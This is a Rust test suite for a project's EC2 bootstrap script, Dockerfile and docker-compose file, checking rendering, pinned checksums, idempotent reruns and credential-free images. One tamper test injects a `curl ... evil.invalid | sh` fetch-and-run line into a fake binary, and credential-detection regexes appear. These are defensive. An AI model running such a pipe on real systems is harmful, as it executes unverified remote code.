//! The host bootstrap, the image and the compose file.
//!
//! `bootstrap/user-data.sh` is rendered the way terraform renders it and run
//! for real with bash on this machine. Only the commands that would change
//! the machine (dnf, rpm, systemctl, id, usermod, uname, curl, runuser) are
//! replaced, by the recording stand-ins in `tests/fixtures/bootstrap/stubs`,
//! first on PATH; git is the real git behind a recording wrapper, cloning a
//! real local repository. The fake GitHub releases are generated here, with
//! their checksums.txt files. The Dockerfile is read statically (no Docker
//! engine runs here); docker-compose.yml goes through the real
//! `docker-compose config`.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use sha2::{Digest, Sha256};

use crate::common::repo_root;

const SSH_USER: &str = "ec2-user";
const SUCCESS: &str = "openpay-bootstrap: OK:";

/// An executable on PATH, or a loud failure naming what to install.
fn tool(name: &str) -> PathBuf {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path)
        .map(|dir| dir.join(name))
        .find(|p| p.is_file())
        .unwrap_or_else(|| {
            panic!(
                "`{name}` is not on PATH: run the suite through scripts/test.sh, which installs it"
            )
        })
}

fn template() -> String {
    std::fs::read_to_string(repo_root().join("bootstrap/user-data.sh")).unwrap()
}

/// terraform's `templatefile()` for the subset user-data.sh may use:
/// `${name}` interpolates a variable, `$${` and `%%{` are the escapes for a
/// literal `${` and `%{`. Anything else terraform would interpret (an
/// unknown variable, an expression, a `%{` directive) fails here as it
/// would fail — or silently change the script — in terraform.
fn render(template: &str, vars: &[(&str, &str)]) -> String {
    let mut out = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(ch) = rest.chars().next() {
        if let Some(r) = rest.strip_prefix("$${") {
            out.push_str("${");
            rest = r;
        } else if let Some(r) = rest.strip_prefix("%%{") {
            out.push_str("%{");
            rest = r;
        } else if let Some(r) = rest.strip_prefix("${") {
            let end = r.find('}').expect("unclosed ${ in the template");
            let name = &r[..end];
            let value = vars
                .iter()
                .find(|(k, _)| *k == name)
                .map(|(_, v)| *v)
                .unwrap_or_else(|| {
                    panic!("the template interpolates `${{{name}}}`: escape it as `$${{` or add the variable to terraform/compute.tf")
                });
            out.push_str(value);
            rest = &r[end + 1..];
        } else if rest.starts_with("%{") {
            panic!("the template has a %{{ directive: escape it as `%%{{`");
        } else {
            out.push(ch);
            rest = &rest[ch.len_utf8()..];
        }
    }
    out
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// The `asset) echo <sha256> ;;` lines of the script's `pinned_sha256`.
fn pins(script: &str) -> BTreeMap<String, String> {
    let re = regex::Regex::new(r"(?m)^\s+([A-Za-z0-9._-]+)\) echo ([0-9a-f]{64}) ;;$").unwrap();
    re.captures_iter(script)
        .map(|c| (c[1].to_string(), c[2].to_string()))
        .collect()
}

/// The value of a `readonly NAME=value` line.
fn readonly_value(script: &str, name: &str) -> String {
    let prefix = format!("readonly {name}=");
    script
        .lines()
        .find_map(|l| l.strip_prefix(&prefix))
        .unwrap_or_else(|| panic!("no `readonly {name}=` in user-data.sh"))
        .to_string()
}

/// The fake GitHub release tree the curl stand-in serves.
struct Release {
    /// Directory under the releases root, e.g. docker/compose/releases/download/v2.40.3.
    dir: &'static str,
    /// (asset name, content) per architecture.
    assets: Vec<(String, String)>,
    /// How this project's checksums.txt marks names: "*" (sha256sum -b) or " ".
    marker: &'static str,
}

fn releases(compose: &str, buildx: &str) -> Vec<Release> {
    let fake = |arch: &str, line: &str| {
        format!("#!/bin/sh\n# fake release binary for {arch}\necho \"{line}\"\n")
    };
    vec![
        Release {
            dir: "docker/compose/releases/download/COMPOSE",
            assets: ["x86_64", "aarch64"]
                .iter()
                .map(|a| {
                    (
                        format!("docker-compose-linux-{a}"),
                        fake(a, &format!("Docker Compose version {compose}")),
                    )
                })
                .collect(),
            marker: "*",
        },
        Release {
            dir: "docker/buildx/releases/download/BUILDX",
            assets: ["amd64", "arm64"]
                .iter()
                .map(|a| {
                    (
                        format!("buildx-{buildx}.linux-{a}"),
                        fake(a, &format!("github.com/docker/buildx {buildx} 0123456")),
                    )
                })
                .collect(),
            marker: " ",
        },
    ]
}

/// One simulated host: a tempdir holding the install root, the stand-ins'
/// state, the release files, the repository to clone and the rendered script.
struct Host {
    dir: tempfile::TempDir,
    script: PathBuf,
    compose_version: String,
    buildx_version: String,
}

impl Host {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        for d in ["state", "root", "tmp", "releases"] {
            std::fs::create_dir_all(root.join(d)).unwrap();
        }
        let origin = root.join("origin");
        git(&["init", "-q", "-b", "main", origin.to_str().unwrap()]);
        std::fs::write(origin.join("README.md"), "openpay\n").unwrap();
        git(&["-C", origin.to_str().unwrap(), "add", "README.md"]);
        git(&[
            "-C",
            origin.to_str().unwrap(),
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "commit",
            "-q",
            "-m",
            "first",
        ]);

        let mut script = render(
            &template(),
            &[
                ("repo_url", origin.to_str().unwrap()),
                ("ssh_user", SSH_USER),
            ],
        );
        let compose_version = readonly_value(&script, "COMPOSE_VERSION");
        let buildx_version = readonly_value(&script, "BUILDX_VERSION");
        let real_pins = pins(&script);
        for release in releases(&compose_version, &buildx_version) {
            let rel_dir = release
                .dir
                .replace("COMPOSE", &compose_version)
                .replace("BUILDX", &buildx_version);
            let out = root.join("releases").join(rel_dir);
            std::fs::create_dir_all(&out).unwrap();
            let mut sums = String::new();
            for (name, content) in &release.assets {
                std::fs::write(out.join(name), content).unwrap();
                let sum = sha256_hex(content.as_bytes());
                sums.push_str(&format!("{sum} {}{name}\n", release.marker));
                // The real binaries' pinned hashes cannot match these fakes:
                // pin the fakes instead, exactly where the real pins are.
                let real = real_pins
                    .get(name)
                    .unwrap_or_else(|| panic!("user-data.sh pins no sha256 for {name}"));
                script = script.replace(real.as_str(), &sum);
            }
            // Other platforms' lines, as the real files have them.
            sums.push_str(&format!(
                "{} {}docker-compose-darwin-aarch64\n",
                "0".repeat(64),
                release.marker
            ));
            std::fs::write(out.join("checksums.txt"), sums).unwrap();
        }
        let path = root.join("user-data.sh");
        std::fs::write(&path, script).unwrap();
        Host {
            dir,
            script: path,
            compose_version,
            buildx_version,
        }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn log_path(&self) -> PathBuf {
        self.path("var/log/user-data.log")
    }

    fn plugin(&self, name: &str) -> PathBuf {
        self.path("root/usr/local/lib/docker/cli-plugins")
            .join(name)
    }

    /// Modification times of the two installed plugins.
    fn plugin_mtimes(&self) -> Vec<std::time::SystemTime> {
        ["docker-compose", "docker-buildx"]
            .iter()
            .map(|p| {
                std::fs::metadata(self.plugin(p))
                    .unwrap()
                    .modified()
                    .unwrap()
            })
            .collect()
    }

    fn repo(&self) -> PathBuf {
        self.path(&format!("root/home/{SSH_USER}/openpay"))
    }

    fn release_file(&self, project: &str, asset: &str) -> PathBuf {
        let version = if project == "compose" {
            &self.compose_version
        } else {
            &self.buildx_version
        };
        self.path(&format!(
            "releases/docker/{project}/releases/download/{version}/{asset}"
        ))
    }

    /// Runs the rendered script with bash, stand-ins first on PATH, in a
    /// clean environment; `env` adds variables (STUB_FAIL, STUB_ARCH).
    fn run(&self, env: &[(&str, &str)]) -> Output {
        std::fs::write(self.path("calls"), "").unwrap();
        let stubs = repo_root().join("tests/fixtures/bootstrap/stubs");
        let mut cmd = Command::new(tool("bash"));
        cmd.arg(&self.script)
            .env_clear()
            .env("PATH", format!("{}:/usr/bin:/bin", stubs.display()))
            .env("HOME", self.path("tmp"))
            .env("LANG", "C.UTF-8")
            .env("TMPDIR", self.path("tmp"))
            .env("OPENPAY_BOOTSTRAP_LOG", self.log_path())
            .env("OPENPAY_BOOTSTRAP_ROOT", self.path("root"))
            .env("STUB_CALLS", self.path("calls"))
            .env("STUB_STATE", self.path("state"))
            .env("STUB_RELEASES", self.path("releases"))
            .env("STUB_REAL_GIT", tool("git"));
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd.output().unwrap()
    }

    /// The stand-ins' recorded calls of the last run, one `NAME ARGS` each.
    fn calls(&self) -> Vec<String> {
        std::fs::read_to_string(self.path("calls"))
            .unwrap()
            .lines()
            .map(str::to_string)
            .collect()
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.log_path()).unwrap_or_default()
    }

    fn head(&self) -> String {
        let out = Command::new(tool("git"))
            .args(["-C", self.repo().to_str().unwrap(), "rev-parse", "HEAD"])
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    }
}

fn git(args: &[&str]) {
    let out = Command::new(tool("git")).args(args).output().unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Index of the first call starting with `prefix`, or a failure listing them.
fn position(calls: &[String], prefix: &str) -> usize {
    calls
        .iter()
        .position(|c| c.starts_with(prefix))
        .unwrap_or_else(|| panic!("no call starting with `{prefix}` in {calls:#?}"))
}

/// The 1-based line of the rendered script whose text (trimmed) is `code`.
fn line_of(script: &Path, code: &str) -> usize {
    std::fs::read_to_string(script)
        .unwrap()
        .lines()
        .position(|l| l.trim() == code)
        .unwrap_or_else(|| panic!("no line `{code}` in the script"))
        + 1
}

#[test]
fn user_data_renders_exactly_as_terraform_templatefile_does() {
    let terraform = tool("terraform");
    let dir = tempfile::tempdir().unwrap();
    let template_path = repo_root().join("bootstrap/user-data.sh");
    std::fs::write(
        dir.path().join("main.tf"),
        format!(
            "output \"rendered\" {{\n  value = templatefile({:?}, {{ repo_url = \"https://github.com/openpay/openpay.git\", ssh_user = \"ec2-user\" }})\n}}\n",
            template_path.to_str().unwrap()
        ),
    )
    .unwrap();
    let tf = |args: &[&str]| {
        let out = Command::new(&terraform)
            .args(args)
            .current_dir(dir.path())
            .env("CHECKPOINT_DISABLE", "1")
            .env("TF_IN_AUTOMATION", "1")
            .env("TF_DATA_DIR", dir.path().join(".terraform"))
            .output()
            .unwrap();
        assert!(out.status.success(), "terraform {args:?}: {}", text(&out));
        out
    };
    tf(&["init", "-input=false", "-backend=false"]);
    tf(&["apply", "-auto-approve", "-input=false"]);
    let by_terraform = String::from_utf8(tf(&["output", "-raw", "rendered"]).stdout).unwrap();
    let by_test = render(
        &template(),
        &[
            ("repo_url", "https://github.com/openpay/openpay.git"),
            ("ssh_user", "ec2-user"),
        ],
    );
    assert_eq!(by_terraform, by_test);
    assert!(by_terraform.contains("readonly REPO_URL='https://github.com/openpay/openpay.git'"));
    assert!(by_terraform.contains("readonly SSH_USER='ec2-user'"));
    assert!(
        !by_terraform.contains("$${"),
        "an escape survived rendering"
    );
}

#[test]
fn rendered_user_data_passes_shellcheck_without_any_finding() {
    let shellcheck = tool("shellcheck");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("user-data.sh");
    std::fs::write(
        &path,
        render(
            &template(),
            &[
                ("repo_url", "https://github.com/openpay/openpay.git"),
                ("ssh_user", "ec2-user"),
            ],
        ),
    )
    .unwrap();
    // Default severity is "style": every finding, not just warnings.
    let out = Command::new(shellcheck).arg(&path).output().unwrap();
    assert!(out.status.success(), "shellcheck findings:\n{}", text(&out));

    // The stand-ins the tests rely on are held to the same bar.
    let stubs = repo_root().join("tests/fixtures/bootstrap/stubs");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&stubs)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_none())
        .collect();
    files.sort();
    assert!(files.len() >= 9, "stand-ins missing: {files:?}");
    let out = Command::new(tool("shellcheck"))
        .args(&files)
        .output()
        .unwrap();
    assert!(out.status.success(), "shellcheck findings:\n{}", text(&out));
}

#[test]
fn user_data_pins_both_architectures_of_both_plugins() {
    let script = template();
    let compose = readonly_value(&script, "COMPOSE_VERSION");
    let buildx = readonly_value(&script, "BUILDX_VERSION");
    let pinned: Vec<String> = pins(&script).into_keys().collect();
    let mut expected = vec![
        "docker-compose-linux-x86_64".to_string(),
        "docker-compose-linux-aarch64".to_string(),
        format!("buildx-{buildx}.linux-amd64"),
        format!("buildx-{buildx}.linux-arm64"),
    ];
    expected.sort();
    assert_eq!(pinned, expected);
    let v = semver::Version::parse(buildx.trim_start_matches('v')).unwrap();
    assert!(
        v >= semver::Version::new(0, 17, 0),
        "compose build needs buildx >= 0.17.0, pinned {buildx}"
    );
    assert!(
        compose.starts_with('v'),
        "release tags are v-prefixed: {compose}"
    );
    // The plugins go where the docker CLI looks before AL2023's own buildx.
    assert!(script.contains("PLUGIN_DIR=\"$ROOT/usr/local/lib/docker/cli-plugins\""));
}

#[test]
fn user_data_installs_in_order_logs_with_timestamps_and_reruns_without_changes() {
    let host = Host::new();
    let out = host.run(&[]);
    assert!(out.status.success(), "first run failed:\n{}", text(&out));

    // Order of the steps, as the stand-ins saw them.
    let calls = host.calls();
    let steps = [
        "dnf install -y git docker",
        "systemctl enable --now docker",
        &format!("usermod -aG docker {SSH_USER}"),
        "uname -m",
        &format!(
            "curl https://github.com/docker/compose/releases/download/{}/checksums.txt",
            host.compose_version
        ),
        &format!(
            "curl https://github.com/docker/compose/releases/download/{}/docker-compose-linux-x86_64",
            host.compose_version
        ),
        &format!(
            "curl https://github.com/docker/buildx/releases/download/{0}/buildx-{0}.linux-amd64",
            host.buildx_version
        ),
        &format!("runuser -u {SSH_USER} -- "),
        "git clone ",
    ];
    let at: Vec<usize> = steps.iter().map(|s| position(&calls, s)).collect();
    assert!(
        at.windows(2).all(|w| w[0] < w[1]),
        "steps out of order {at:?}:\n{calls:#?}"
    );

    // The plugins are the verified release files, executable.
    for (plugin, project, asset) in [
        (
            "docker-compose",
            "compose",
            "docker-compose-linux-x86_64".to_string(),
        ),
        (
            "docker-buildx",
            "buildx",
            format!("buildx-{}.linux-amd64", host.buildx_version),
        ),
    ] {
        let installed = std::fs::read(host.plugin(plugin)).unwrap();
        let served = std::fs::read(host.release_file(project, &asset)).unwrap();
        assert_eq!(installed, served, "{plugin}");
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(host.plugin(plugin))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o755, "{plugin} mode {mode:o}");
    }
    assert!(
        host.repo().join("README.md").is_file(),
        "repository not cloned"
    );
    let head = host.head();

    // Every log line is timestamped; the run ends with the one success line.
    let log = host.log();
    let stamped = regex::Regex::new(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z ").unwrap();
    assert!(log.lines().count() > 10, "log too short:\n{log}");
    for line in log.lines() {
        assert!(stamped.is_match(line), "untimestamped log line `{line}`");
    }
    let last = log.lines().last().unwrap();
    assert!(
        last.contains(SUCCESS),
        "last line is not the success line: {last}"
    );
    assert_eq!(log.matches(SUCCESS).count(), 1);
    assert!(log.contains("Docker Compose version"), "{log}");
    assert!(
        text(&out).contains(SUCCESS),
        "stdout lacks the success line"
    );

    // Second run: nothing installed, enabled, added or downloaded again.
    let mtimes = host.plugin_mtimes();
    let started = std::time::Instant::now();
    let out = host.run(&[]);
    let took = started.elapsed();
    assert!(out.status.success(), "second run failed:\n{}", text(&out));
    let calls = host.calls();
    for changing in ["dnf ", "systemctl enable", "usermod ", "curl ", "git clone"] {
        assert!(
            !calls.iter().any(|c| c.starts_with(changing)),
            "second run called `{changing}`:\n{calls:#?}"
        );
    }
    position(&calls, "git -C");
    assert!(calls.iter().any(|c| c.contains("fetch --prune origin")));
    assert!(calls.iter().any(|c| c.contains("reset --hard origin/HEAD")));
    let again = host.plugin_mtimes();
    assert_eq!(mtimes, again, "plugins rewritten on the second run");
    assert_eq!(host.head(), head);
    let log = host.log();
    assert_eq!(log.matches(SUCCESS).count(), 2);
    assert!(log.contains("docker-compose ") && log.contains("is already installed"));
    assert!(
        took < std::time::Duration::from_secs(10),
        "rerun took {took:?}"
    );
}

#[test]
fn aarch64_host_gets_the_aarch64_release_binaries() {
    let host = Host::new();
    let out = host.run(&[("STUB_ARCH", "aarch64")]);
    assert!(out.status.success(), "{}", text(&out));
    let calls = host.calls();
    position(
        &calls,
        &format!(
            "curl https://github.com/docker/compose/releases/download/{}/docker-compose-linux-aarch64",
            host.compose_version
        ),
    );
    position(
        &calls,
        &format!(
            "curl https://github.com/docker/buildx/releases/download/{0}/buildx-{0}.linux-arm64",
            host.buildx_version
        ),
    );
    assert!(
        !calls
            .iter()
            .any(|c| c.contains("x86_64") || c.contains("amd64"))
    );
    let installed = std::fs::read_to_string(host.plugin("docker-buildx")).unwrap();
    assert!(installed.contains("for arm64"), "{installed}");
}

#[test]
fn unsupported_architecture_is_refused_before_any_download() {
    let host = Host::new();
    let out = host.run(&[("STUB_ARCH", "armv7l")]);
    assert!(!out.status.success());
    let log = host.log();
    assert!(log.contains("unsupported architecture armv7l"), "{log}");
    assert!(!host.calls().iter().any(|c| c.starts_with("curl ")));
    assert!(!log.contains(SUCCESS));
}

#[test]
fn tampered_download_is_refused_and_nothing_is_installed() {
    let host = Host::new();
    let asset = "docker-compose-linux-x86_64";
    let file = host.release_file("compose", asset);
    let mut bytes = std::fs::read(&file).unwrap();
    bytes.extend_from_slice(b"curl -s https://evil.invalid | sh\n");
    std::fs::write(&file, &bytes).unwrap();

    let out = host.run(&[]);
    assert!(!out.status.success(), "a tampered binary was accepted");
    let log = host.log();
    let refusal = log
        .lines()
        .find(|l| l.contains("checksum mismatch"))
        .unwrap_or_else(|| panic!("no checksum refusal in the log:\n{log}"));
    assert!(
        refusal.contains(asset) && refusal.contains(&sha256_hex(&bytes)),
        "{refusal}"
    );
    assert!(refusal.contains("refusing to install"), "{refusal}");
    assert!(!log.contains(SUCCESS));
    assert!(
        log.lines().last().unwrap().contains("FAILED (exit 1)"),
        "{log}"
    );
    // Neither plugin reached the plugin dir, nothing was staged behind.
    assert!(!host.plugin("docker-compose").exists());
    assert!(!host.plugin("docker-buildx").exists());
    assert_eq!(std::fs::read_dir(host.path("tmp")).unwrap().count(), 0);
    assert!(!host.calls().iter().any(|c| c.starts_with("git clone")));
}

#[test]
fn release_whose_checksums_file_disagrees_with_the_pin_is_refused() {
    // Binary and checksums.txt replaced together (a compromised release):
    // consistent with each other, but not with the pinned sha256.
    let host = Host::new();
    let asset = format!("buildx-{}.linux-amd64", host.buildx_version);
    let file = host.release_file("buildx", &asset);
    let evil = "#!/bin/sh\necho evil\n";
    std::fs::write(&file, evil).unwrap();
    let sums = host.release_file("buildx", "checksums.txt");
    let text_sums = std::fs::read_to_string(&sums).unwrap();
    let replaced: String = text_sums
        .lines()
        .map(|l| {
            if l.ends_with(&asset) {
                format!("{}  {asset}\n", sha256_hex(evil.as_bytes()))
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    std::fs::write(&sums, replaced).unwrap();

    let out = host.run(&[]);
    assert!(!out.status.success());
    let log = host.log();
    assert!(
        log.lines()
            .any(|l| l.contains(&asset) && l.contains("pinned sha256") && l.contains("refusing")),
        "{log}"
    );
    // The compose download had verified, but is not installed alone either.
    assert!(!host.plugin("docker-compose").exists());
    assert!(!host.plugin("docker-buildx").exists());
}

/// Makes stand-in `stub` fail on the script line `code`; asserts that the
/// ERR trap logs that line number and command, that the command's own error
/// (`own_error`) is in the log, and that no call starting with one of
/// `later` (steps after it) was made.
fn assert_err_trap(stub: &str, code: &str, own_error: &str, later: &[&str]) {
    let host = Host::new();
    let out = host.run(&[("STUB_FAIL", stub)]);
    assert!(!out.status.success(), "a failing {stub} went unnoticed");
    let line = line_of(&host.script, code);
    let log = host.log();
    let expected = format!("openpay-bootstrap: ERROR: line {line}: exit 1: {code}");
    assert!(log.contains(&expected), "no `{expected}` in:\n{log}");
    assert!(
        log.contains(own_error),
        "the command's own error is lost:\n{log}"
    );
    assert!(!log.contains(SUCCESS));
    let calls = host.calls();
    for step in later {
        assert!(
            !calls.iter().any(|c| c.starts_with(step)),
            "`{step}` ran after the failure:\n{calls:#?}"
        );
    }
}

#[test]
fn failing_step_is_logged_by_the_err_trap_with_its_line_and_command() {
    assert_err_trap(
        "systemctl",
        "systemctl enable --now docker",
        "Failed to enable unit",
        &["usermod ", "curl ", "git "],
    );
}

#[test]
fn dnf_failure_names_the_package_line_and_stops() {
    assert_err_trap(
        "dnf",
        "dnf install -y git docker",
        "Unable to find a match: docker",
        &["systemctl enable", "usermod ", "curl "],
    );
}

fn dockerfile() -> String {
    std::fs::read_to_string(repo_root().join("Dockerfile")).unwrap()
}

/// The Dockerfile's instructions, continuation lines joined, comments dropped.
fn instructions(dockerfile: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut current = String::new();
    for line in dockerfile.lines() {
        let t = line.trim();
        if t.starts_with('#') || (t.is_empty() && current.is_empty()) {
            continue;
        }
        current.push_str(t.trim_end_matches('\\'));
        current.push(' ');
        if !t.ends_with('\\') {
            out.push(current.trim().to_string());
            current.clear();
        }
    }
    out
}

#[test]
fn dockerfile_is_multistage_cached_locked_non_root_and_credential_free() {
    let text = dockerfile();
    let ins = instructions(&text);
    let at = |pred: &dyn Fn(&str) -> bool, what: &str| {
        ins.iter()
            .position(|i| pred(i))
            .unwrap_or_else(|| panic!("Dockerfile has no {what}: {ins:#?}"))
    };

    let froms: Vec<&String> = ins.iter().filter(|i| i.starts_with("FROM ")).collect();
    assert_eq!(froms.len(), 2, "{froms:?}");
    assert!(
        froms[0].contains("rust:") && froms[0].ends_with(" AS builder"),
        "{}",
        froms[0]
    );
    assert!(
        froms[1].contains("debian:") && froms[1].contains("-slim"),
        "{}",
        froms[1]
    );

    // Dependencies compile in a layer before the sources are copied.
    let manifests = at(
        &|i| i == "COPY Cargo.toml Cargo.lock ./",
        "COPY of the manifests",
    );
    let deps_build = at(
        &|i| i.starts_with("RUN ") && i.contains("cargo build --release --locked"),
        "dependency build",
    );
    let sources = at(
        &|i| i.starts_with("COPY . ") || i.starts_with("COPY src"),
        "source COPY",
    );
    let final_build = ins
        .iter()
        .rposition(|i| i.contains("cargo build --release --locked"))
        .unwrap();
    assert!(manifests < deps_build && deps_build < sources && sources < final_build);
    assert!(
        ins[final_build].contains("touch src/main.rs"),
        "stale stub binary risk"
    );
    for i in ins.iter().filter(|i| i.contains("cargo build")) {
        assert!(i.contains("--locked"), "cargo build without --locked: {i}");
    }

    // Runtime: CA certificates and OpenSSL, a non-root user, the entrypoint.
    let runtime = &ins[ins.iter().position(|i| i == froms[1]).unwrap()..];
    assert!(
        runtime
            .iter()
            .any(|i| i.contains("ca-certificates") && i.contains("libssl3"))
    );
    let user = runtime
        .iter()
        .filter_map(|i| i.strip_prefix("USER "))
        .next_back()
        .expect("the runtime stage sets no USER");
    let uid = user.split(':').next().unwrap();
    assert!(uid != "root" && uid != "0", "runs as root: USER {user}");
    assert!(runtime.iter().any(|i| i == "ENTRYPOINT [\"openpay\"]"));
    assert!(runtime.iter().any(|i| i.starts_with("CMD [")));
    assert!(
        runtime
            .iter()
            .any(|i| i.starts_with("LABEL ") && i.contains("org.opencontainers.image.title"))
    );

    // No credentials: no AWS_* or secret-like ENV/ARG, no key material.
    let secret =
        regex::Regex::new(r"(?i)^(ENV|ARG)\s+\S*(AWS_|SECRET|TOKEN|PASSWORD|ACCESS_KEY)").unwrap();
    for i in &ins {
        assert!(!secret.is_match(i), "credential in the image: {i}");
    }
    assert!(
        !regex::Regex::new(r"AKIA[0-9A-Z]{16}")
            .unwrap()
            .is_match(&text)
    );
}

#[test]
fn dockerignore_keeps_state_and_secrets_out_of_the_context() {
    let ignore = std::fs::read_to_string(repo_root().join(".dockerignore")).unwrap();
    let lines: Vec<&str> = ignore.lines().map(str::trim).collect();
    for needed in [
        "target/",
        ".git/",
        ".venv/",
        ".openpay/",
        "data/",
        "**/*.tfstate",
        ".env",
        "**/.aws/",
    ] {
        assert!(lines.contains(&needed), ".dockerignore lacks {needed}");
    }
    // What the build needs must not be ignored.
    for kept in ["src", "Cargo.toml", "Cargo.lock", "checks"] {
        assert!(
            !lines.iter().any(|l| l.trim_end_matches('/') == kept),
            "{kept} is ignored"
        );
    }
}

fn compose_config(env: &[(&str, &str)]) -> Output {
    let mut cmd = Command::new(tool("docker-compose"));
    cmd.args(["-f", "docker-compose.yml", "config"])
        .current_dir(repo_root())
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", std::env::temp_dir());
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.output().unwrap()
}

/// The lines of the block under `key:` in docker-compose's rendered YAML.
fn block<'a>(yaml: &'a str, key: &str) -> Vec<&'a str> {
    let mut lines = yaml.lines().skip_while(|l| l.trim() != key);
    let head = lines
        .next()
        .unwrap_or_else(|| panic!("no `{key}` in:\n{yaml}"));
    let indent = |l: &str| l.len() - l.trim_start().len();
    let key_indent = indent(head);
    // Mappings are indented under their key; docker-compose prints list
    // items at the key's own indentation.
    lines
        .take_while(|l| {
            indent(l) > key_indent || (indent(l) == key_indent && l.trim_start().starts_with("- "))
        })
        .map(str::trim)
        .collect()
}

#[test]
fn compose_runs_the_gated_run_with_a_work_volume_and_a_bounded_restart() {
    let out = compose_config(&[
        (
            "OPENPAY_AWS_BUCKET",
            "openpayments-dezoomcamp2026-us-west-1-123456789012",
        ),
        ("OPENPAY_YEAR", "2023"),
    ]);
    assert!(
        out.status.success(),
        "docker-compose config failed:\n{}",
        text(&out)
    );
    let yaml = String::from_utf8(out.stdout).unwrap();

    // `run` (its preflight is the doctor gate) for the year from the env,
    // with the work dir on the volume.
    assert_eq!(
        block(&yaml, "command:"),
        [
            "- run",
            "- --year",
            "- '2023'",
            "- --dataset",
            "- general-payments",
            "- --work-dir",
            "- /var/lib/openpay/data"
        ]
    );
    assert!(!yaml.contains("--skip-preflight"), "the gate is bypassed");
    let env = block(&yaml, "environment:");
    assert!(
        env.contains(&"OPENPAY_AWS_BUCKET: openpayments-dezoomcamp2026-us-west-1-123456789012"),
        "{env:?}"
    );
    assert!(env.contains(&"OPENPAY_AWS_REGION: us-west-1"), "{env:?}");
    assert!(
        !env.iter()
            .any(|l| l.starts_with("AWS_ACCESS_KEY") || l.starts_with("AWS_SECRET"))
    );
    assert_eq!(
        block(&yaml, "volumes:")[0],
        "- openpay-work:/var/lib/openpay/data:rw"
    );
    assert!(
        yaml.lines().any(|l| l.trim() == "openpay-work: {}"),
        "named volume not declared:\n{yaml}"
    );
    assert!(
        yaml.lines().any(|l| l.trim() == "restart: on-failure:3"),
        "{yaml}"
    );
    assert!(
        yaml.lines().any(|l| l.trim() == "dockerfile: Dockerfile"),
        "{yaml}"
    );
}

#[test]
fn compose_refuses_to_start_without_a_bucket() {
    let out = compose_config(&[]);
    assert!(!out.status.success(), "a run without a bucket was accepted");
    let err = text(&out);
    assert!(err.contains("set OPENPAY_AWS_BUCKET"), "{err}");
}
